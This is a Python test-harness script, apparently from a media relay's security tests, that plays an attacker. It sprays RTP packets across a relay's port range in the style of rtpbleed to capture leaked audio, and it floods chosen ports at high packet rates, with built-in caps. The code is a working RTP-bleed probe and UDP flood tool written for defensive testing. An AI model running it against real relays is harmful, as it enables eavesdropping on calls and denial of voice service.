"""The attacker of the media-attack tests: a stranger spraying RTP at a media relay's ports.

Run inside the attacker's network namespace (a harness.netns.Namespace.popen), it prints one
JSON object on stdout when done:

    python3 rtpattack.py spray TARGET LOW HIGH --seconds 6 --rate 20000
        sweeps ports LOW..HIGH of TARGET over and over (one RTP packet a port a sweep, what
        SIPPTS rtpbleed does) from ONE socket, and records every packet that comes back:
        {"sent": N, "seconds": s, "received": [[t, src_port, length, payload_type, ssrc], ...],
         "payload_hex": [...first RECORDED_PAYLOADS payloads...]}
    python3 rtpattack.py flood TARGET PORT[,PORT...] --seconds 1 [--rate 0]
        sends RTP at those ports as fast as it can (or at --rate packets/s), round robin:
        {"sent": N, "seconds": s, "rate": pps}

Every run stops by itself: after --seconds, and after --max-packets whatever the rate (the
network rule: bounded floods, aimed only at addresses the test created). The packets are
12-byte RTP headers (PCMU, an SSRC of the attacker's) with 160 bytes of payload: what a
voice packet looks like, so the relay treats them as media.
"""
from __future__ import annotations

import argparse
import json
import os
import select
import socket
import struct
import sys
import time

ATTACKER_SSRC = 0x0BADF00D
PCMU = 0
PAYLOAD = b"\xff" * 160                # PCMU silence
MAX_PACKETS = 20_000_000               # a hard cap on any run, whatever its arguments
MAX_SECONDS = 30.0
RECORDED_PAYLOADS = 400                # payloads kept for decoding what the attacker heard


def rtp(seq: int) -> bytes:
    return struct.pack("!BBHII", 0x80, PCMU, seq & 0xFFFF, (seq * 160) & 0xFFFFFFFF, ATTACKER_SSRC) + PAYLOAD


def _drain(sock: socket.socket, started: float, received: list, payloads: list) -> None:
    while True:
        try:
            data, (_, port) = sock.recvfrom(2048)
        except BlockingIOError:
            return
        pt = data[1] & 0x7F if len(data) > 1 else -1
        ssrc = struct.unpack("!I", data[8:12])[0] if len(data) >= 12 else 0
        received.append([round(time.monotonic() - started, 4), port, len(data), pt, ssrc])
        if len(payloads) < RECORDED_PAYLOADS:
            payloads.append(data.hex())


def spray(target: str, low: int, high: int, seconds: float, rate: float, max_packets: int) -> dict:
    """Sweep low..high at `rate` packets/s for `seconds`, recording what comes back."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setblocking(False)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    ports = range(low, high + 1)
    started = time.monotonic()
    deadline = started + min(seconds, MAX_SECONDS)
    received: list = []
    payloads: list = []
    sent = 0
    interval = 1.0 / rate
    next_at = started
    while sent < max_packets:
        now = time.monotonic()
        if now >= deadline:
            break
        if now < next_at:
            # wait for the next send slot, reading what the relay sends meanwhile
            r, _, _ = select.select([sock], [], [], min(next_at - now, 0.01))
            if r:
                _drain(sock, started, received, payloads)
            continue
        # a small batch per slot keeps high rates possible without a busy loop
        batch = max(1, int(rate / 1000))
        for _ in range(batch):
            try:
                sock.sendto(rtp(sent), (target, ports[sent % len(ports)]))
            except OSError:          # ICMP port unreachable from an earlier packet: ignore
                pass
            sent += 1
        next_at += batch * interval
        _drain(sock, started, received, payloads)
    # what is still on its way back
    end = time.monotonic() + 0.3
    while time.monotonic() < end:
        select.select([sock], [], [], 0.05)
        _drain(sock, started, received, payloads)
    return {"sent": sent, "seconds": round(time.monotonic() - started, 3), "received": received,
            "payload_hex": payloads}


def flood(target: str, ports: list[int], seconds: float, rate: float, max_packets: int) -> dict:
    """Packets at `ports` round robin, as fast as possible (rate 0) or at `rate`/s."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    packets = [rtp(i) for i in range(64)]
    addresses = [(target, p) for p in ports]
    n = len(addresses)
    started = time.monotonic()
    deadline = started + min(seconds, MAX_SECONDS)
    sent = 0
    send = sock.sendto
    if rate <= 0:
        while sent < max_packets:
            for _ in range(256):
                try:
                    send(packets[sent & 63], addresses[sent % n])
                except OSError:
                    pass
                sent += 1
            if time.monotonic() >= deadline:
                break
    else:
        interval = 1.0 / rate
        while sent < max_packets and time.monotonic() < deadline:
            due = int((time.monotonic() - started) / interval)
            while sent < min(due, max_packets):
                try:
                    send(packets[sent & 63], addresses[sent % n])
                except OSError:
                    pass
                sent += 1
            time.sleep(0.001)
    took = time.monotonic() - started
    return {"sent": sent, "seconds": round(took, 3), "rate": round(sent / took) if took else 0}


def main(argv: list[str]) -> int:
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    sub = p.add_subparsers(dest="mode", required=True)
    s = sub.add_parser("spray")
    s.add_argument("target")
    s.add_argument("low", type=int)
    s.add_argument("high", type=int)
    f = sub.add_parser("flood")
    f.add_argument("target")
    f.add_argument("ports")
    for sp, rate in ((s, 20000.0), (f, 0.0)):
        sp.add_argument("--seconds", type=float, default=1.0)
        sp.add_argument("--rate", type=float, default=rate)
        sp.add_argument("--max-packets", type=int, default=MAX_PACKETS)
    a = p.parse_args(argv)
    cap = min(a.max_packets, MAX_PACKETS)
    if a.mode == "spray":
        out = spray(a.target, a.low, a.high, a.seconds, max(a.rate, 1.0), cap)
    else:
        out = flood(a.target, [int(x) for x in a.ports.split(",")], a.seconds, a.rate, cap)
    json.dump(out, sys.stdout)
    sys.stdout.flush()
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
